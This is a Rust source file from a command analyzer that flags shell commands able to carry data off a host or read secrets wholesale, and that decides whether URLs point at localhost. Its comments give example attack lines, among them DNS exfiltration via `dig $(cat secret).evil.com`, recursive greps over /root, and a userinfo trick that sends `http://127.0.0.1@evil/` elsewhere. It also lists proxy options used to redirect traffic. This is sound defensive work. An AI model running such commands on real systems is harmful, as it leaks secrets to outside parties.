//! Ways a known program carries data off the host or reads secrets
//! wholesale that its flags alone do not show, and which addresses are
//! this host.

use jarvis_core::text::code;

use crate::kb::Effect;
use crate::shell::{Word, truncate};

use super::paths::secret_tree;
use super::{Analyzer, Finding, Program};

impl Analyzer<'_> {
    /// Ways a known program can carry data out or read secrets wholesale
    /// that its flags alone do not show.
    pub(super) fn exfiltration(
        &self,
        program: &Program,
        name: &str,
        args: &[Word],
        findings: &mut Vec<Finding>,
    ) {
        // `dig $(cat secret).evil.com`: a name built at run time can carry
        // anything to whoever answers for that domain.
        if (program.family == "network"
            || matches!(name, "getent" | "resolvectl" | "systemd-resolve"))
            && let Some(a) = args
                .iter()
                .find(|a| !a.literal && !a.skeleton.starts_with('-'))
        {
            findings.push(
                Finding::about(
                    name,
                    Effect::Network,
                    70,
                    &format!(
                        "sends {}, only known at run time, over the network; it can carry secrets out",
                        code(&truncate(&a.raw, 40))
                    ),
                )
                .attend(),
            );
        }
        // `grep -r . /root`, `rg password /`: searching a whole tree that
        // holds secrets reads them.
        let recursive = matches!(name, "rg" | "ag" | "ack" | "ugrep")
            || (matches!(name, "grep" | "egrep" | "fgrep" | "zgrep")
                && args.iter().any(|a| {
                    a.text == "--recursive"
                        || a.text == "--dereference-recursive"
                        || (a.text.starts_with('-')
                            && !a.text.starts_with("--")
                            && a.text[1..].contains(['r', 'R']))
                }));
        if recursive {
            for a in args.iter().filter(|a| !a.text.starts_with('-')) {
                let host = crate::paths::resolve_in_known_dirs(&a.text, &self.cwds, a.pattern);
                if let Some(what) = host
                    .paths
                    .iter()
                    .find_map(|p| secret_tree(p, host.glob))
                    .or_else(|| secret_tree(&a.text, a.pattern))
                {
                    findings.push(
                        Finding::about(
                            name,
                            Effect::Read,
                            70,
                            &format!(
                                "searches every file under {}, {what}",
                                code(&truncate(
                                    if a.text.is_empty() { &a.raw } else { &a.text },
                                    40
                                ))
                            ),
                        )
                        .attend(),
                    );
                }
            }
        }
    }
}

pub(super) fn looks_like_remote_address(t: &str) -> bool {
    let lower = t.to_ascii_lowercase();
    for scheme in [
        "http://", "https://", "ftp://", "tcp://", "udp://", "ssh://", "rsync://", "s3://", "git@",
    ] {
        if let Some(rest) = lower.strip_prefix(scheme) {
            return !is_loopback_host(rest);
        }
    }
    false
}

/// Long options (curl's, wget's) that send a request somewhere other than
/// the host its URL names: proxies, name and connection overrides, config
/// files that can hold them. Matched as prefixes too, as the tools read
/// abbreviations.
const TRAFFIC_ELSEWHERE: &[&str] = &[
    "--proxy",
    "--preproxy",
    "--proxy1.0",
    "--socks4",
    "--socks4a",
    "--socks5",
    "--socks5-hostname",
    "--connect-to",
    "--resolve",
    "--doh-url",
    "--config",
    "--execute",
    "--use-askpass",
];

/// Whether `a` is an option that may send the request elsewhere (see
/// [`TRAFFIC_ELSEWHERE`]); short ones in any cluster: `-x` (proxy), `-K`
/// (config file), `-e` (wget's startup commands).
fn sends_traffic_elsewhere(a: &str) -> bool {
    if let Some(long) = a.strip_prefix("--") {
        let name = long.split('=').next().unwrap_or("");
        return name.len() >= 2
            && TRAFFIC_ELSEWHERE
                .iter()
                .any(|o| o[2..].starts_with(name) || name.starts_with(&o[2..]));
    }
    a.strip_prefix('-')
        .is_some_and(|cluster| cluster.contains(['x', 'K', 'e']))
}

/// Whether the arguments name network addresses and all of them are this host.
pub(super) fn only_loopback(args: &[Word]) -> bool {
    if args.iter().any(|a| sends_traffic_elsewhere(&a.text)) {
        return false;
    }
    let mut any = false;
    for a in args {
        let lower = a.text.to_ascii_lowercase();
        let rest = ["http://", "https://"]
            .iter()
            .find_map(|s| lower.strip_prefix(s));
        match rest {
            Some(rest) if a.literal && is_loopback_host(rest) => any = true,
            Some(_) => return false,
            None if lower.contains("://") => return false,
            None => {}
        }
    }
    any
}

/// Whether the URL whose text after the scheme is `rest` names this host,
/// read as URL parsers read it: the authority ends at `/`, `?` or `#`, a
/// user part before its last `@` is not the host (`http://127.0.0.1@evil/`
/// goes to `evil`), and the host is `localhost`, an IPv4 address in
/// 127.0.0.0/8 written as four decimal numbers, or `[::1]`. Anything
/// unusual in the authority (escapes, backslashes) is not this host.
fn is_loopback_host(rest: &str) -> bool {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    if authority
        .chars()
        .any(|c| !(c.is_ascii_alphanumeric() || ".-_:[]@".contains(c)))
    {
        return false;
    }
    let host_port = authority.rsplit('@').next().unwrap_or("");
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        match v6.split_once(']') {
            Some((addr, _)) => {
                return addr
                    .parse::<std::net::Ipv6Addr>()
                    .is_ok_and(|ip| ip.is_loopback());
            }
            None => return false,
        }
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    host.eq_ignore_ascii_case("localhost")
        || host
            .parse::<std::net::Ipv4Addr>()
            .is_ok_and(|ip| ip.is_loopback())
}
